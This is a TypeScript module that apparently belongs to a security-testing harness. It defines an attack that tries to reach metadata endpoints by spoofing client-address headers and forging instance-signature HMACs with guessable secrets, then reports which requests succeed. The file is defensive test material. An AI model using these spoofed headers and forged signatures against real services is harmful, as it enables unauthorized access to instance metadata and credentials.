import { createHmac } from 'node:crypto';
import type { Attack, AttackReport } from './attack.js';
import { METADATA_PATHS, metadataFrom, metadataScene } from './metadata-scene.js';

/** Says in a header who asks: an address, or a server, signed with what can be guessed. */
export const metadataHeader: Attack = {
  name: 'metadata-header',
  async run(target, extent): Promise<AttackReport> {
    const { address, server, victim } = await metadataScene(target, '127.78.3');
    const sign = (secret: string): string => createHmac('sha256', secret).update(server).digest('hex');
    const named = { 'x-instance-id': server, 'x-tenant-id': victim.project, 'x-forwarded-for': address };
    const headers: readonly Record<string, string>[] = [
      { 'x-forwarded-for': address },
      { 'x-forwarded-for': `${address}, 127.77.3.9` },
      { 'x-forwarded-for': `127.77.3.9, ${address}` },
      { forwarded: `for=${address}` },
      { forwarded: `for="${address}:4711";proto=http` },
      { forwarded: `for=127.77.3.9, for=${address}` },
      ...['x-real-ip', 'x-client-ip', 'true-client-ip', 'cf-connecting-ip', 'x-remote-addr', 'via'].map((name) => ({
        [name]: address,
      })),
      named,
      { ...named, 'x-instance-id-signature': '' },
      ...['', 'secret', 'metadata'].map((secret) => ({ ...named, 'x-instance-id-signature': sign(secret) })),
      { 'x-metadata-provider': 'p', 'x-metadata-provider-signature': sign(''), 'x-forwarded-for': address },
    ];
    const findings: string[] = [];
    let tried = 0;
    for (const one of headers) {
      for (const path of extent.sample(METADATA_PATHS, 1)) {
        tried += 1;
        const { status, text } = await metadataFrom(target, '127.77.3.200', path, one);
        if (status < 400) findings.push(`${path} with ${JSON.stringify(one)}: ${status} ${text}`);
      }
    }
    return { tried, findings };
  },
};
